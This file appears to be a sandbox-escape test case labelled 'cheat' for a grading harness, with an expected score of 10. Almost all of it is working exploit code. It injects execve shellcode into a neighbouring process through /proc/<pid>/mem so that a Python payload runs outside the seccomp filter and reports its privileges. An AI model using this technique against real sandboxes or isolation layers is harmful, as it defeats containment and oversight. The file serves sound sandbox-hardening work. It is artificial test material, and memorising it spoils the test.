# /// cheat
# about = """Code is written into the memory of the process that holds the sandbox, to run without \
#     a filter."""
# assignment = "small"
# cells = ["prelude", "@", "right_model"]
#
# [expect]
# score = 10
# problems = []
# ///
# %%
import json
import os
import pathlib
import platform
import signal
import struct
import sys
import time

ANSWER = pathlib.Path("told-by-another").absolute()
INSIDE = f"""
import ctypes, json, os, resource, time
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
told = [status["Seccomp"].strip(), resource.getrlimit(resource.RLIMIT_NPROC)]
told.append(ctypes.CDLL(None).unshare(0x10000000))
with open({str(ANSWER)!r} + ".part", "w") as file:
    json.dump(told, file)
os.rename({str(ANSWER)!r} + ".part", {str(ANSWER)!r})
time.sleep(600)  # the sandbox ends with it
"""


def neighbours():
    """Return the other processes of a namespace that is this sandbox's own."""
    try:
        numbers = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except PermissionError:
        return []
    return [each for each in numbers if each != os.getpid()] if max(numbers) < 100 else []


def run_inside(number, memory):
    """Overwrite what a sleeping process does next: it becomes a Python that tells its powers."""
    state = pathlib.Path(f"/proc/{number}/syscall").read_text().split()
    stack, after = (int(word, 16) for word in state[-2:])
    words = [word.encode() + b"\0" for word in (sys.executable, "-I", "-c", INSIDE)]
    places, place = [], stack + 64
    for word in words:
        places.append(place)
        place += len(word)
    memory.seek(stack)
    memory.write(struct.pack("<5Q", *places, 0).ljust(64, b"\0") + b"".join(words))
    code = b"\x90\x90\x48\xbf" + struct.pack("<Q", places[0])  # rdi: the program
    code += b"\x48\xbe" + struct.pack("<Q", stack)  # rsi: its arguments
    code += b"\x31\xd2\xb8\x3b\x00\x00\x00\x0f\x05"  # no environment; execve
    memory.seek(after - 2)  # where a call starts again that a signal has interrupted
    memory.write(code)
    memory.flush()
    os.kill(number, signal.SIGSTOP)
    time.sleep(0.2)
    os.kill(number, signal.SIGCONT)


for number in neighbours():
    try:
        with open(f"/proc/{number}/mem", "r+b", buffering=0) as memory:
            if platform.machine() != "x86_64":
                raise Escaped(f"the memory of process {number}")
            run_inside(number, memory)
    except OSError as error:
        print(number, error)
        continue
    for _ in range(50):
        time.sleep(0.1)
        if ANSWER.exists():
            break
    if ANSWER.exists():
        raise Escaped(f"process {number} has become {json.loads(ANSWER.read_text())}")
